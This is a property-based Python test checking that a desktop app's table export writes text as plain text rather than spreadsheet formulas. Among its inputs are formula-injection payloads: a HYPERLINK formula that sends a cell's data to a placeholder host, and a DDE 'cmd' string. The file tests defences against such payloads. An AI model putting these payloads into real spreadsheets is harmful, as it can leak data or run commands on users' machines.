"""Whatever a card, a name or a venue says, an export writes it as text a spreadsheet shows,
never as a formula it runs; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from ilmava_desktop.services.table_files import FORMULA_STARTS, write_tables

texts = st.one_of(
    st.text(max_size=30),
    st.sampled_from(FORMULA_STARTS).flatmap(lambda start: st.text(max_size=20).map(
        lambda rest: start + rest)),
    st.sampled_from(['=HYPERLINK("http://x.invalid/?d="&B2,"x")', "=1+1", "@SUM(A1)", "-2+3",
                     "+cmd|' /C calc'!A0", "#N/A", "#DIV/0!", "=", "-", "'=1"]),
)
values = st.one_of(texts, texts, st.integers(-10**6, 10**6),
                   st.floats(allow_nan=False, allow_infinity=False, width=32))
tables = st.lists(st.lists(values, min_size=1, max_size=5), min_size=1, max_size=6).map(
    lambda rows: [["a", "b", "c", "d", "e"], *rows])


def same_text(a: str, b: str) -> bool:
    # XML reads a carriage return as a line feed; that is the format, not a formula.
    return a.replace("\r\n", "\n").replace("\r", "\n") == b.replace("\r\n", "\n").replace(
        "\r", "\n")


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=tables)
def test_exports_write_text_as_text_and_numbers_as_numbers(tmp_path, rows):
    book = openpyxl.load_workbook(write_tables(tmp_path / "t.xlsx", [("T", rows)]))
    sheet = book.active
    for row_number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row_number, column)
            if isinstance(value, str):
                written = ILLEGAL_CHARACTERS_RE.sub("", value)
                if written:
                    assert cell.data_type == "s", (value, cell.data_type)
                    assert same_text(cell.value, written)
            else:
                assert cell.data_type == "n" and math.isclose(cell.value, value, rel_tol=1e-9)

    written = write_tables(tmp_path / "t.csv", [("T", rows)]).read_bytes().decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(written, newline=""), delimiter=";"))
    assert len(read) == len(rows)
    for row, read_row in zip(rows, read, strict=True):
        for value, cell in zip(row, read_row, strict=True):
            if isinstance(value, str):
                assert not cell.startswith(FORMULA_STARTS)
                assert cell == ("'" + value if value.startswith(FORMULA_STARTS) else value)
            else:
                assert float(cell) == value  # a negative number is still a number
